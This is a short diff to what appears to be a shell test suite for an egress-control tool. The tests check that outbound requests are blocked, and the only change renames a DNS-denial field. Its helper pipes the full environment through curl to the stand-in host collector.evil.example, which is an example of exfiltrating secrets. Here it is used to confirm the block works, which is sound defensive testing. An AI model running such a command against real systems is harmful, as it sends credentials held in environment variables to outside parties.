@@ -16,7 +16,7 @@ post() { env | run a curl -sS -m 5 -k --data-binary @- "$@"; }
 check "curl posting the environment by name fails within a second" \
 	not within 1000 post https://collector.evil.example/
 check "  it failed by name" denied a layer=dns reason=dns-denied \
-	name=collector.evil.example
+	qname=collector.evil.example
 check "curl by address fails within a second" \
 	sh -c 't=$(date +%s%N); ! '"'$EGRESSCTL' --socket $API exec a -- \
 	curl -sS -m 5 -k -d x https://203.0.113.66/ && [ \$(( (\$(date +%s%N) - t) / 1000000 )) -lt 1000 ]"
